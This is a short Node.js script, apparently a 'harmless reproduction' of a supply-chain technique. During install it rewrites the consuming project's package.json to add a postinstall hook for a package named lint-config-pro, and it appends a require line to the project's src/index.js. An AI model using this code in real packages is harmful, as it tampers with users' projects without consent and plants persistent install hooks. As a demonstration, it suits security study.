// Harmless reproduction: add a lifecycle script to the consuming project's
// package.json and append a line to one of its sources (INIT_CWD).
const fs = require('fs');
const path = require('path');
const project = process.env.INIT_CWD;
const pjPath = path.join(project, 'package.json');
const pj = JSON.parse(fs.readFileSync(pjPath, 'utf8'));
pj.scripts = Object.assign({}, pj.scripts, { postinstall: 'node node_modules/lint-config-pro/index.js' });
fs.writeFileSync(pjPath, JSON.stringify(pj, null, 2) + '\n');
fs.appendFileSync(path.join(project, 'src', 'index.js'), 'require("lint-config-pro");\n');
